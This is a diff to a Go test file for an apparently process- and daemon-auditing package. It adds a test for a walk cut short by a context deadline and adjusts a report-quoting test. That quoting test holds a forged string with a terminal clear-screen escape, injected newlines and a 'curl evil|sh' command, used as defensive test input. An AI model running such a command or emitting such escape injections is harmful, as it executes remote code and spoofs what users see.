@@ -1,6 +1,7 @@
 package audit
 
 import (
+	"context"
 	"encoding/json"
 	"errors"
 	"os"
@@ -80,6 +81,32 @@ func TestAReadThatHangs(t *testing.T) {
 	}
 }
 
+// A walk that a bound has ended makes nothing of its view certain, and is no error.
+func TestAWalkThatIsCut(t *testing.T) {
+	tree, err := scan.OpenTree(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer tree.Close()
+	over, cancel := context.WithDeadline(t.Context(), time.Now().Add(-time.Hour))
+	defer cancel()
+	for ctx, isCut := range map[context.Context]bool{t.Context(): false, over: true} {
+		v := &View{Root: "/root", Complete: true}
+		w := viewing{look: &look{}, View: v, group: &group{}, whole: tree, at: func(string) {}}
+		v.Daemons = []Daemon{{Answered: true}}
+		err := w.walk(ctx, func() error {
+			_, err := w.tree.List("/run")
+			if owned := w.owned("/run"); (owned != nil) != isCut { // else a user's file would be root's
+				t.Errorf("its owner: %v", owned)
+			}
+			return w.orNote(err)
+		})
+		if err != nil || v.Complete == isCut || w.complete() == isCut || (len(v.Notes) == 1) != isCut {
+			t.Errorf("%v, %+v; is it cut: want %v", err, v, isCut)
+		}
+	}
+}
+
 // A child of sudo is root's at first, and then a user's. A command line that it has as a
 // user makes it no shim.
 func TestAProcessThatDropsPrivileges(t *testing.T) {
@@ -116,7 +143,7 @@ func TestAProcessThatDropsPrivileges(t *testing.T) {
 func TestTextIsQuoted(t *testing.T) {
 	const forged = "x\x1b[2J\r\ncertain  shim 1 prod/7: no task\n         do:  curl evil|sh"
 	r := &Report{
-		Node: forged, Partial: []string{forged}, Untrusted: []Untrusted{{1, forged}},
+		Node: forged, Partial: []string{forged}, Untrusted: []Untrusted{{PID: 1, Why: forged}},
 		Daemons: []Daemon{{Address: forged, Version: forged}},
 		Suspects: []Suspect{{Kind: Forgotten, Sure: Likely, ID: forged, Namespace: forged, Path: forged, View: forged,
 			Missing: []string{forged}, With: []string{forged}, Bugs: []string{forged}, Do: forged}},
